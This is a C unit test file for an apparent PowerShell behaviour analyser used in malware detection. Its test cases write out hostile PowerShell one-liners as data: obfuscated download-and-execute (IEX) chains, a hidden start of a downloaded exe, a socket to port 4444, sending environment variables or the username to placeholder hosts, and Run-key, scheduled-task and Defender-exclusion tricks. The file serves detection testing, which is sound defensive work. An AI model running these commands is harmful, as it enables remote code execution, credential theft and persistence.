/* powershell_test.c - PowerShell: folded text, .NET calls, cmdlets; and what must not hurt. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "support/say_facts.h"

extern const RtLanguage rt_language_powershell;

typedef struct {
    const char *name, *script, *wanted;
} Case;

static const Case cases[] = {
    { "iex download", "IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/p')",
      "net.request|https://a.invalid/p|GET\ncode.eval||IEX <- net.request" },
    { "piped", "iwr -useb https://a.invalid/i | iex",
      "net.request|https://a.invalid/i|GET\ncode.eval||IEX <- net.request" },
    { "backticks", "I`E`X (i`wr 'https://a.invalid/b').Content",
      "net.request|https://a.invalid/b\ncode.eval||IEX <- net.request" },
    { "joined pieces",
      "$u = 'htt'+'ps://'+\"a.invalid/j\"; Invoke-RestMethod -Uri $u -Method Post -Body "
      "$env:USERNAME",
      "host.info|user\nnet.request|https://a.invalid/j|Post <- host.info" },
    { "format", "$u = '{1}{0}' -f 'a.invalid/f','https://'; iwr $u",
      "net.request|https://a.invalid/f" },
    { "chars", "$n = [char[]](105,101,120) -join ''; & $n 'iwr https://a.invalid/c'",
      "code.eval|iwr https://a.invalid/c|IEX\nnet.request|https://a.invalid/c" },
    { "char sum", "& ([char]73+[char]69+[char]88) 'iwr https://a.invalid/s'",
      "net.request|https://a.invalid/s" },
    { "replace", "'Xwr https://a.invalid/r' -replace 'X','i' | iex",
      "net.request|https://a.invalid/r" },
    { "reversed", "$s='r/dilavni.a//:sptth rwi'; iex ($s[-1..-($s.Length)] -join '')",
      "code.eval" },
    { "base64 text",
      "$t=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
      "aXdyIGh0dHBzOi8vYS5pbnZhbGlkL2I2NA==')); iex $t",
      "data.decode|base64|iwr https://a.invalid/b64\ncode.eval|iwr https://a.invalid/b64|IEX <- "
      "data.decode\nnet.request|https://a.invalid/b64" },
    { "file and start",
      "$p = \"$env:TEMP\\x.exe\"\n(New-Object "
      "System.Net.WebClient).DownloadFile('http://192.0.2.9/x', $p)\nStart-Process $p -WindowStyle "
      "Hidden",
      "net.request|http://192.0.2.9/x|GET\nfile.write|%TEMP%\\x.exe|||write <- "
      "net.request\nproc.exec|%TEMP%\\x.exe|shell|hidden <- file.write" },
    { "outfile",
      "Invoke-WebRequest -Uri https://a.invalid/o -OutFile o.ps1; powershell -File o.ps1",
      "file.write|o.ps1|||write <- net.request\nproc.exec|powershell -File o.ps1|shell <- "
      "file.write" },
    { "assembly", "$b=[Convert]::FromBase64String($x);[Reflection.Assembly]::Load($b)",
      "data.decode|base64\ncode.eval||assembly load <- data.decode" },
    { "socket", "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.3',4444)",
      "net.connect|192.0.2.3|4444" },
    { "task", "Register-ScheduledTask -TaskName u -Action $a", "call|persistence" },
    { "run key",
      "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a "
      "-Value 'node x.js'",
      "file.write|HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run|node x.js||registry" },
    { "defender", "Add-MpPreference -ExclusionPath C:\\", "call|weakens-host" },
    { "environment",
      "$e = Get-ChildItem Env: | Out-String; Invoke-WebRequest https://a.invalid/e -Method POST "
      "-Body $e",
      "env.read|*\nnet.request|https://a.invalid/e|POST <- env.read" },
    { "inside blocks",
      "function Go { if ($true) { try { iwr https://a.invalid/q | iex } catch {} } }\nGo",
      "code.eval||IEX <- net.request" },
    { "program", "cmd /c \"curl https://a.invalid/z | cmd\"",
      "code.eval||pipe cmd <- net.request" },
    { "plain", "param([string]$Name)\nWrite-Host \"Hello $Name\"\n$x = Get-Content ./a.txt\n",
      "file.read|./a.txt\n!net.request\n!code.eval" },
};

static void test_cases(void **state)
{
    (void)state;
    int missing = 0;
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        FAKE_SINK fake = fake_sink_open(RT_STR("x.ps1"), rt_str_from_c(cases[i].script));
        rt_language_powershell.observe(&fake->layers[1], 1, &fake->sink);
        missing += miss_facts(cases[i].name, say_facts(fake), cases[i].wanted);
    }
    assert_int_equal(missing, 0);
}

static void test_truncated(void **state)
{
    (void)state;
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        RtStr script = rt_str_from_c(cases[i].script);
        for (size_t len = 0; len < script.len; len++) {
            FAKE_SINK fake = fake_sink_open(RT_STR("x.ps1"), rt_str_sub(script, 0, len));
            rt_language_powershell.observe(&fake->layers[1], 1, &fake->sink);
        }
    }
}

static void test_hostile(void **state)
{
    (void)state;
    static const char *const pieces[] = { "(",
                                          "[",
                                          "{",
                                          "$(",
                                          "\"$(",
                                          "@(",
                                          "[a](",
                                          "$x[",
                                          "$a.b(",
                                          "a,",
                                          "+",
                                          "'a'+",
                                          "$a+=$a;",
                                          "$a=\"$a$a\";",
                                          "-join ",
                                          "a -f ",
                                          "`",
                                          "<#",
                                          "@'",
                                          "iex '",
                                          "$a='x','y';$a -join 'z';",
                                          "| iex ",
                                          "& ",
                                          "a|",
                                          "[Convert]::FromBase64String(" };
    for (size_t i = 0; i < RT_COUNT(pieces); i++) {
        FAKE_SINK fake = fake_sink_open(RT_STR("x.ps1"), RT_STR(""));
        RtText text = { .arena = fake->sink.arena };
        rt_text_add(&text, RT_STR("$a='xxxxxxxxxxxxxxxx';"));
        for (int k = 0; k < 5000; k++)
            rt_text_add(&text, rt_str_from_c(pieces[i]));
        RtLayer layer = { .bytes = rt_text_str(&text) };
        rt_language_powershell.observe(&layer, 1, &fake->sink);
    }
}

static void test_bids(void **state)
{
    (void)state;
    assert_true(rt_language_powershell.bid(RT_STR("a.ps1"), RT_STR("x")) >= 80);
    assert_true(
        rt_language_powershell.bid(
            RT_STR("a.txt"), RT_STR("$x = New-Object Net.WebClient\nInvoke-Expression $x")) >= 40);
    assert_int_equal(rt_language_powershell.bid(RT_STR("a.js"), RT_STR("iex('x'); param(")), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases),
                                        cmocka_unit_test(test_truncated),
                                        cmocka_unit_test(test_hostile),
                                        cmocka_unit_test(test_bids) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
